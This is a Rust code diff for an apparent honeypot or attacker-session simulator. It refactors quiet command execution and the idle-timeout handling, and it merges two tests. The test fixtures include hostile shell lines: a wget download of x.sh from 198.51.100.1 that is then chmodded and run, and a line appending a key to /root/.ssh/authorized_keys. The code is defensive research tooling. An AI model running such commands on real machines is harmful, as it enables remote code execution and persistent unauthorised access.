@@ -178,26 +178,10 @@ impl SessionDriver {
         Some(res.rendered)
     }
 
-    /// Like [`SessionDriver::run_command`] but without materialising the
-    /// terminal output — the simulator's path (nothing echoes the render).
-    pub fn run_command_quiet(&mut self, line: &str, think_secs: u32) -> Option<QuietExec> {
-        if self.finished() || !self.advance_activity(think_secs) {
-            return None;
-        }
-        if self.phase != Phase::Shell {
-            return None;
-        }
-        let q = self.shell_mut().execute_quiet(line);
-        if q.exited {
-            self.harvest_shell();
-            self.end(EndReason::ClientClose);
-        }
-        Some(q)
-    }
-
-    /// Execute a pre-parsed command line quietly — the prepared-script fast
-    /// path (the simulator parses each campaign variant once per day, not
-    /// once per session).
+    /// Like [`SessionDriver::run_command`] on a pre-parsed line and without
+    /// materialising the terminal output — the simulator's path (nothing
+    /// echoes the render, and each campaign variant is parsed once per day,
+    /// not once per session).
     pub fn run_parsed_quiet(&mut self, buf: &LineBuf, think_secs: u32) -> Option<QuietExec> {
         if self.finished() || !self.advance_activity(think_secs) {
             return None;
@@ -222,19 +206,16 @@ impl SessionDriver {
         self.shell.as_mut().expect("just created")
     }
 
-    /// Account for a completed external transfer taking `secs` — resets the
-    /// idle timer if configured (this is how CMD+URI sessions legitimately
-    /// exceed the 3-minute cap in the paper).
+    /// Account for a completed external transfer taking `secs`. It resets
+    /// the idle timer: the paper observes CMD+URI sessions crossing the
+    /// 3-minute cap "due to the reset of the timeout period while waiting
+    /// for the external resource".
     pub fn external_transfer(&mut self, secs: u32) {
         if self.finished() {
             return;
         }
         self.clock = self.clock.add_secs(secs as u64);
-        if self.config.download_resets_timeout {
-            self.idle_secs = 0;
-        } else {
-            self.idle_secs += secs;
-        }
+        self.idle_secs = 0;
     }
 
     /// Bulk-append pre-computed shell results to the session — the
@@ -398,7 +379,7 @@ mod tests {
         assert_eq!(r.ended_by, EndReason::Timeout);
         assert_eq!(r.duration_secs, 2 + 180);
         assert!(r.login_succeeded());
-        assert!(!r.executed_commands()); // the NO_CMD shape
+        assert!(r.commands.is_empty()); // the NO_CMD shape
     }
 
     #[test]
@@ -419,39 +400,26 @@ mod tests {
     }
 
     #[test]
-    fn quiet_commands_yield_identical_records() {
-        let script = "cd /tmp && wget http://198.51.100.1/x.sh; chmod 777 x.sh; ./x.sh";
-        let run = |quiet: bool| {
-            let mut d = driver();
-            d.offer_credentials(Credentials::new("root", "1234"), 1);
-            if quiet {
-                d.run_command_quiet(script, 2).unwrap();
-                d.run_command_quiet("exit", 1);
-            } else {
-                d.run_command(script, 2).unwrap();
-                d.run_command("exit", 1);
-            }
-            d.into_record()
-        };
-        assert_eq!(run(false), run(true));
-    }
-
-    #[test]
     fn parsed_quiet_matches_line_execution() {
-        let script = "uname -a; echo k >> /root/.ssh/authorized_keys";
-        let mut a = driver();
-        a.offer_credentials(Credentials::new("root", "1234"), 1);
-        a.run_command(script, 2);
-        a.client_close();
+        // The second script ends the session from inside the shell.
+        for script in [
+            "uname -a; echo k >> /root/.ssh/authorized_keys",
+            "cd /tmp && wget http://198.51.100.1/x.sh; chmod 777 x.sh; ./x.sh; exit",
+        ] {
+            let mut a = driver();
+            a.offer_credentials(Credentials::new("root", "1234"), 1);
+            a.run_command(script, 2);
+            a.client_close();
 
-        let mut buf = LineBuf::new();
-        buf.parse(script);
-        let mut b = driver();
-        b.offer_credentials(Credentials::new("root", "1234"), 1);
-        b.run_parsed_quiet(&buf, 2).unwrap();
-        b.client_close();
+            let mut buf = LineBuf::new();
+            buf.parse(script);
+            let mut b = driver();
+            b.offer_credentials(Credentials::new("root", "1234"), 1);
+            b.run_parsed_quiet(&buf, 2).unwrap();
+            b.client_close();
 
-        assert_eq!(a.into_record(), b.into_record());
+            assert_eq!(a.into_record(), b.into_record());
+        }
     }
 
     #[test]
